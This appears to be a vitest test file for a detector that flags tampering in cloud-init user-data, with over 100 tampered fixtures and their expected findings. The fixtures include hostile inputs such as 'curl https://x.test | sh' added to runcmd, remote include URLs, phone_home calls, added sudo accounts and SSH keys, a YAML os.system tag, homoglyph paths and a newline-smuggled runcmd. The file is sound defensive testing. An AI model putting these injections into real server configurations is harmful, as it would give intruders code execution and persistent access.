import { describe, expect, it } from 'vitest';
import { encodeUtf8 } from '#contract/text/bytes.ts';
import { publicKeyPem } from '#contract/trust/keys.ts';
import { gzip } from '#platform/gzip.ts';
import { siteWith } from '../../../appliance/bootstrap/fresh-server.ts';
import { strangerKey } from '../../../simulator/keys.ts';
import { bothArchitectures } from '../user-data/rendered.ts';
import { explained, findingsOf, honestText } from './paste.ts';

const config = honestText();
const message = honestText({ format: 'multipart' });
const script = honestText({ format: 'shell' });
const pushed = siteWith({ release: 'push' });
const start = '- systemctl enable --now --no-block landfall-boot.service\n';

/** Replaces a text that must be there. */
function replaced(text: string, from: string | RegExp, to: string): string {
  const changed = text.replace(from, () => to);
  if (changed === text) throw new Error(`the user-data has no ${from}`);
  return changed;
}

const change = (from: string | RegExp, to: string) => replaced(config, from, to);
const withKey = (lines: string) =>
  replaced(config, 'locale: C.UTF-8\n', `locale: C.UTF-8\n${lines}\n`);
const withFile = (entry: string) => replaced(config, 'write_files:\n', `write_files:\n${entry}\n`);
const withCommand = (command: string) => replaced(config, start, `- ${command}\n${start}`);
/** Replaces the entry of a file. */
const entry = (path: string) => new RegExp(`-\n path: ${path}\n(?: .*\n|\n)*`);
/** Replaces the content of a file with a field. */
const withContent = (path: string, fields: string) =>
  replaced(config, entry(path), `-\n path: ${path}\n${fields}\n`);
const base64 = (text: string) => Buffer.from(text).toString('base64');
const bootstrap = `#!/bin/sh
set -eu
umask 022
cd "\${LANDFALL_ROOT-/}" # for tests
python3 -Bu opt/landfall/boot/unpack.py
cd -P opt/landfall/current
exec "$PWD/runtime/node" "$PWD/program/landfall.mjs" first-boot
`;
const pemOf = (key: string) => key.trim().replaceAll(/^/gm, '  ');
const stranger = pemOf(publicKeyPem(strangerKey.public));
const delimiter = /\n--landfall-[0-9a-f]{32}--\n/.exec(message)?.[0] ?? '';
/** Adds a part to the message. */
const withPart = (type: string, body: string, headers = '') =>
  replaced(
    message,
    delimiter,
    `${delimiter.replace('--\n', '\n')}Content-Type: ${type}\n${headers}\n${body}${delimiter}`,
  );

/** User-data that was tampered with, and the finding: kind, subject and a part of its text. */
const tampered: ReadonlyArray<
  readonly [what: string, paste: string | Uint8Array, finding: RegExp]
> = [
  // Keys of cloud-config.
  ['a command', withCommand('curl https://x.test | sh'), /^setting runcmd: .*curl https:\/\/x/],
  ['a command as a list', withCommand('[sh, -c, id]'), /^setting runcmd: .*\["sh","-c","id"\]/],
  ['no command', change(`runcmd:\n${start}`, ''), /^missing runcmd:/],
  ['another command', change(start, '- reboot\n'), /^setting runcmd: .*has no entry "systemctl/],
  ['a text of commands', change(`runcmd:\n${start}`, 'runcmd: id\n'), /^setting runcmd: runcmd is/],
  ['a repeated command', withCommand(start.slice(2, -1)), /^setting runcmd: .*repeats/],
  ['bootcmd', withKey('bootcmd: [id]'), /^setting bootcmd: .*every boot.*\["id"\]/],
  ['users', withKey('users: [{ name: eve, sudo: ALL }]'), /^setting users: .*accounts.*eve/],
  ['user', withKey('user: eve'), /^setting user: .*account of the image/],
  ['packages', withKey('packages: [netcat]'), /^setting packages: .*installed.*netcat/],
  ['package_upgrade', withKey('package_upgrade: true'), /^setting package_upgrade:/],
  ['apt', withKey('apt: { sources: { x: { source: ppa:x/y } } }'), /^setting apt: .*sources/],
  ['chpasswd', withKey('chpasswd: { expire: false }'), /^setting chpasswd: .*passwords/],
  ['password', withKey('password: x'), /^setting password: .*a password of an account/],
  ['ssh_pwauth', withKey('ssh_pwauth: true'), /^setting ssh_pwauth: .*with passwords/],
  ['disable_root', withKey('disable_root: false'), /^setting disable_root: .*as root/],
  ['an SSH key', withKey('ssh_authorized_keys: [ssh-rsa AAAA]'), /^setting ssh_authorized_keys:/],
  ['ssh_import_id', withKey('ssh_import_id: [gh:eve]'), /^setting ssh_import_id: .*gh:eve/],
  ['ssh_keys', withKey('ssh_keys: { x: y }'), /^setting ssh_keys: .*host keys/],
  ['phone_home', withKey('phone_home: { url: https://x.test }'), /^setting phone_home: .*x\.test/],
  ['power_state', withKey('power_state: { mode: reboot }'), /^setting power_state: .*reboot/],
  ['ca_certs', withKey('ca_certs: { trusted: [x] }'), /^setting ca_certs: .*authorities/],
  ['snap', withKey('snap: { commands: [id] }'), /^setting snap: /],
  ['merge_how', withKey('merge_how: replace'), /^setting merge_how: /],
  ['an unknown key', withKey('x-thing: 1'), /^setting x-thing: .*a setting of cloud-init/],
  ['another locale', change('locale: C.UTF-8', 'locale: en_US.UTF-8'), /^setting locale: .*en_US/],
  ['write_files of another kind', withKey('write_files: x'), /^setting write_files: /],
  // Files.
  ['a cron job', withFile('- path: /etc/cron.d/x\n  content: x'), /^file \/etc\/cron\.d\/x: .*`x`/],
  [
    'another key',
    withFile(`-\n path: /etc/landfall/keys/x.pem\n content: |\n${stranger}`),
    /^key \/etc\/landfall\/keys\/x\.pem: .*trusts every key/,
  ],
  [
    'a path with a Cyrillic letter',
    withFile('-\n path: /etc/landf\u0430ll/site.json\n content: x'),
    /^file .*it only looks like \/etc\/landfall\/site\.json/,
  ],
  [
    'a path with a digit for a letter',
    withFile('-\n path: /etc/landfa11/boot.json\n content: x'),
    /^file .*it only looks like \/etc\/landfall\/boot\.json/,
  ],
  [
    'a path with ..',
    withFile('-\n path: /opt/x/../landfall/boot/fetch.py\n content: x'),
    /^file .*it only looks like \/opt\/landfall\/boot\/fetch\.py/,
  ],
  [
    'a path with //',
    withFile('-\n path: /opt//landfall/boot/fetch.py\n content: x'),
    /^file .*it only looks like/,
  ],
  [
    'a file that is written twice',
    change(
      /(-\n path: \/opt\/landfall\/boot\/bootstrap\n(?: .*\n)*)/,
      config.match(entry('/opt/landfall/boot/bootstrap'))?.[0].repeat(2) ?? '',
    ),
    /^script \/opt\/landfall\/boot\/bootstrap: .*written twice/,
  ],
  ['readable settings', change(" permissions: '0600'", " permissions: '0644'"), /^boot .*0644/],
  ['no permissions', change(" permissions: '0600'\n", ''), /^boot .*`permissions` none instead/],
  ['an owner', change(' content: |', ' owner: eve\n content: |'), /^boot .*`owner` "eve"/],
  ['append', change(' content: |', ' append: true\n content: |'), /^boot .*`append` true/],
  ['defer', change(' content: |', ' defer: true\n content: |'), /^boot .*`defer` true/],
  [
    'base64',
    withContent('/opt/landfall/boot/bootstrap', ` encoding: b64\n content: ${base64(bootstrap)}`),
    /^script .*`encoding` "b64" instead of none/,
  ],
  [
    'another script in base64',
    withContent(
      '/opt/landfall/boot/bootstrap',
      ` encoding: b64\n content: ${base64(`${bootstrap}id\n`)}`,
    ),
    /^script .*differs in its line 8: `id`/,
  ],
  [
    'a script in gz+b64',
    withContent('/opt/landfall/boot/bootstrap', ' encoding: gz+b64\n content: H4sI'),
    /^script .*cannot be decoded/,
  ],
  [
    'a script from a URL',
    withContent('/opt/landfall/boot/bootstrap', ' source: { uri: https://x.test/a }'),
    /^script .*`source`.*x\.test/,
  ],
  ['no script', change(entry('/opt/landfall/boot/fetch.py'), ''), /^missing .*fetch\.py/],
  [
    'one byte',
    change('umask 022\n', 'umask 023\n'),
    /^script .*line 3: `umask 023` instead of `umask 022`/,
  ],
  ['a line', change('  umask 022\n', '  umask 022\n  id\n'), /^script .*bootstrap: .*line 4: `id`/],
  [
    'the unit',
    change('ExecStart=/bin/sh ', 'ExecStart=/bin/bash '),
    /^script .*\.service: .*ExecStart/,
  ],
  [
    'a Python script',
    change('give_up(why):\n', 'give_up(x):\n'),
    /^script .*unpack\.py: .*give_up/,
  ],
  [
    'the key of another person',
    change(/(?<=release-1\.pem\n content: \|\n)(?: {2}.*\n)+/, `${stranger}\n`),
    /^key \/etc\/landfall\/keys\/release-1\.pem: .*differs in its line/,
  ],
  ['no recovery key', change(entry('/etc/landfall/keys/recovery.pem'), ''), /^missing .*recovery/],
  // boot.json.
  [
    'another source',
    change('"url":"https://downloads.example.com/landfall/"', '"url":"https://x.test/"'),
    /^boot sources: .*x\.test/,
  ],
  [
    'another proxy',
    change('"proxy":"http://10.0.0.2:7890"', '"proxy":"http://10.0.0.3:1"'),
    /^boot sources:/,
  ],
  [
    'another version',
    change('"version": "1.2.0"', '"version": "1.1.0"'),
    /^boot version: .*"1\.1\.0" instead of "1\.2\.0"/,
  ],
  ['another release', change('a'.repeat(64), 'c'.repeat(64)), /^boot manifests\.amd64:/],
  ['a field', change('"product":', '"x": 1,\n  "product":'), /^boot x: /],
  ['settings that are no JSON', change('{\n  "product"', '{\n  product'), /^boot .*not valid JSON/],
  // What a release cannot have: text that would be rendered again as commands.
  [
    'a product with line breaks',
    change('"product": "landfall"', '"product": "landfall\\nruncmd: [id]\\n#"'),
    /^boot product: /,
  ],
  // site.json.
  [
    'an unknown field',
    change('"admin": {', '"x": 1,\n  "admin": {'),
    /^site .*x is not a known key/,
  ],
  [
    'a default',
    change('"admin": {', '"upgrades": {"reboot":"never"},\n  "admin": {'),
    /^site upgrades: /,
  ],
  [
    'a field of a later version',
    change('"hosts": {', '"engines": {"local":3},\n  "hosts": {'),
    /^site .*accepts: engines\.local/,
  ],
  ['a user', change('"user":"ops"', '"user":"root"'), /^site .*admin\.user/],
  ['a placeholder', change('chat.example.com', '<DOMAIN>'), /^site .*placeholder/],
  [
    'a secret',
    change('"hosts": {', '"report": {"webhook":"https://x.test/?token=abc"},\n  "hosts": {'),
    /^site .*contains a URL with a secret/,
  ],
  [
    'a repeated field',
    change('"hosts": {', '"hosts": {"ui":"x.test"},\n  "hosts": {'),
    /^site .*duplicate key/,
  ],
  ['another form', change('"hosts": {"ui"', '"hosts": { "ui"'), /^site .*differs in its line/],
  [
    'a component that the release lacks',
    honestText({ site: siteWith({ release: ['https://x.test/'], components: { chat: true } }) }),
    /^site release: .*has no chat/,
  ],
  // Comments and the form.
  ['a comment', change('# It contains no secret.', '# It is safe.'), /^line # It is safe\.: /],
  ['no comment', change(/# It contains no secret\.\n/, ''), /^missing # It contains no secret/],
  ['a digest in a comment', change(/^# {2}[0-9a-f]{64}/m, `#  ${'0'.repeat(64)}`), /^line # 0{64}/],
  ['a line at the end', `${config}# more\n`, /^line # more: /],
  ['no line break at the end', config.trimEnd(), /^missing :/],
  [
    'flow style',
    change(`runcmd:\n${start}`, `runcmd: [${start.slice(2, -1)}]\n`),
    /^line runcmd: \[/,
  ],
  ['CR LF', config.replaceAll('\n', '\r\n'), /^line-breaks CR LF: /],
  ['a lone CR', change('# Follow', '#\rruncmd: [id]\r# Follow'), /^character U\+000D: .*runcmd/],
  ['a line separator', change('# Follow', '#\u2028runcmd: [id] # Follow'), /^character U\+2028: /],
  ['curly quotes', change("'0600'", '\u20180600\u2019'), /^character U\+2018: .*curly quote/],
  [
    'a header in a comment',
    change('# Follow', '# MIME-Version: 1.0\n# Follow'),
    /^line # MIME-Version/,
  ],
  ['a tag', change('locale: C', 'locale: !!str C'), /^yaml tag:yaml\.org,2002:str: /],
  ['an unknown tag', withKey('x: !!python/object:os.system id'), /^yaml tag:.*python/],
  ['an anchor', change('locale: C', 'locale: &x C'), /^yaml &x: /],
  ['an alias', withKey('x: &a [id]\nbootcmd: *a'), /^setting bootcmd: .*"\*a"/],
  ['a merge', withKey('x: &a { bootcmd: [id] }\n<<: *a'), /^setting <<: /],
  ['a key twice', `${config}runcmd: [id]\n`, /^duplicate-key runcmd: /],
  ['a second document', `${config}---\nruncmd: [id]\n`, /^document ---: /],
  [
    'two cloud-configs',
    `${config}#cloud-config\nruncmd: [id]\n`,
    /^line #cloud-config|^duplicate-key runcmd/,
  ],
  ['a template', `## template: jinja\n${config}`, /^format ## template: jinja: .*Jinja/],
  ['a template that is no YAML', '## template: jinja\n#cloud-config\na: {{ b }}\n', /^format ## t/],
  // Messages.
  [
    'a script in a part',
    withPart('text/x-shellscript', '#!/bin/sh\nid'),
    /^part .*root runs.*`#!\/bin\/sh`/,
  ],
  [
    'URLs in a part',
    withPart('text/x-include-url', 'https://x.test/'),
    /^part .*downloads.*x\.test/,
  ],
  [
    'a nested message',
    withPart('multipart/mixed; boundary=x', '--x\n\nid\n--x--'),
    /^part .*parts inside/,
  ],
  ['a hook', withPart('text/cloud-boothook', '#cloud-boothook\nid'), /^part .*every boot/],
  ['a part handler', withPart('text/part-handler', 'import os'), /^part .*Python/],
  [
    'another cloud-config',
    withPart('text/cloud-config', 'runcmd: [id]'),
    /^part .*settings of cloud-init/,
  ],
  ['a template in a part', withPart('text/jinja2', '{{ x }}'), /^part .*Jinja/],
  ['a script in a text', withPart('text/plain', '#!/bin/sh\nid'), /^part text\/plain: .*root runs/],
  [
    'a script with a name',
    withPart('text/x-shellscript', 'id', 'Content-Disposition: attachment; filename="x.sh"\n'),
    /^part x\.sh: /,
  ],
  [
    'a part in base64',
    replaced(message, /7bit.*?\n\n.*(?=\n--landfall)/s, `base64\n\n${base64(config)}`),
    /^part base64: .*readable/,
  ],
  ['text before the parts', replaced(message, '\n\n--landfall', '\n\nx\n--landfall'), /^line x: /],
  [
    'another header',
    replaced(message, 'MIME-Version', 'X-Other: 1\nMIME-Version'),
    /^line X-Other: 1: /,
  ],
  ['a message in gzip', gzip?.(encodeUtf8(message)) ?? '', /^format gzip of multipart: /],
  ['a changed message', replaced(message, 'umask 022', 'umask 023'), /^script .*`umask 023`/],
  // The script.
  [
    'a command in the script',
    replaced(script, 'set -eu\nroot=', 'set -eu\nid\nroot='),
    /^line id: /,
  ],
  [
    'a byte in the script',
    replaced(script, 'umask 022\ncd', 'umask 023\ncd'),
    /^script .*`umask 023`/,
  ],
  ['a tab in the script', replaced(script, '~os.makedirs', '~~os.makedirs'), /^script .*unpack/],
  [
    'a file in the script',
    replaced(script, '\nput /opt', "\nput /etc/x 022 <<'E'\nx\nE\nput /opt"),
    /^file \/etc\/x: /,
  ],
  ['another umask', replaced(script, 'boot.json 077', 'boot.json 022'), /^boot .*`umask` "022"/],
  ['another end', replaced(script, '\n)\n', '\nid\n)\n'), /^line id: /],
  [
    'an SSH key in the script',
    replaced(
      honestText({ format: 'shell', site: pushed }),
      /\nssh-ed25519/,
      '\nssh-rsa AAAA\nssh-ed25519',
    ),
    /^line ssh-rsa AAAA: /,
  ],
  [
    'an SSH key of a server that waits',
    replaced(honestText({ site: pushed }), '\n- ssh-ed25519', '\n- ssh-rsa AAAA\n- ssh-ed25519'),
    /^setting ssh_authorized_keys: .*ssh-rsa AAAA/,
  ],
  // Other forms.
  ['an include', '#include\nhttps://x.test/\n', /^format #include: .*downloads/],
  ['a hook alone', '#cloud-boothook\nid\n', /^format #cloud-boothook: /],
  ['a handler alone', '#part-handler\nimport os\n', /^format #part-handler: /],
  ['an archive', '#cloud-config-archive\n- content: id\n', /^format #cloud-config-archive: /],
  ['a script of another program', '#!/bin/bash\nid\n', /^format landfall: /],
  ['a cloud-config of another program', '#cloud-config\nbootcmd: [id]\n', /^setting bootcmd: /],
  ['a list', '#cloud-config\n- id\n', /^format cloud-config: .*no mapping/],
  ['text', 'hello\n', /^format hello: .*ignores it/],
  ['an empty file', '', /^format : .*ignores it/],
];

describe('user-data that was tampered with', () => {
  it.each(tampered)('names what Landfall would not write: %s', (_what, paste, finding) => {
    expect(findingsOf(paste)).toContainEqual(expect.stringMatching(finding));
  });

  it('names more than 60 kinds', () => {
    expect(tampered.length).toBeGreaterThan(100);
  });

  it('names the line of the file', () => {
    const paste = change('umask 022\n', 'umask 023\n');
    const line = paste.split('\n').indexOf('  umask 023') + 1;
    expect(explained(paste).findings).toMatchObject([{ kind: 'script', line }]);
    const inMessage = replaced(message, 'umask 022', 'umask 023');
    expect(explained(inMessage).findings).toMatchObject([
      { kind: 'script', line: inMessage.split('\n').indexOf('  umask 023') + 1 },
    ]);
  });

  it('names several changes', () => {
    const paste = replaced(
      replaced(withCommand('id'), '# It contains no secret.', '# It is safe.'),
      'umask 022\n',
      'umask 023\n',
    );
    expect(explained(paste).findings.map(({ kind }) => kind)).toEqual([
      ...['missing', 'line', 'script', 'setting'],
    ]);
  });

  it('shows no secret of the user-data', () => {
    const secret = 'sk-abcdefghijklmnop';
    const paste = `${withCommand(`echo ${secret}`)}# ${secret}\n`;
    expect(findingsOf(paste).join('\n')).not.toContain(secret);
    expect(findingsOf(paste)).toHaveLength(2);
  });

  it('compares the scripts with the digests of a release of another version', () => {
    const [one] = bothArchitectures;
    if (!one) throw new Error('there are two');
    const bootstrapOf = one.release.bootstrap?.map((file) =>
      file.name === 'fetch.py' ? { ...file, sha256: '0'.repeat(64) } : file,
    );
    const releases = bothArchitectures.map((each) => ({
      ...each,
      release: { ...each.release, bootstrap: bootstrapOf ?? [] },
    }));
    expect(findingsOf(config, releases)).toEqual([
      expect.stringMatching(
        /^script \/opt\/landfall\/boot\/fetch\.py: .*not the script of the release.*0{64}/,
      ),
    ]);
    expect(explained(config, releases).scripts).toContainEqual(
      expect.objectContaining({ name: 'fetch.py', state: 'changed' }),
    );
  });
});
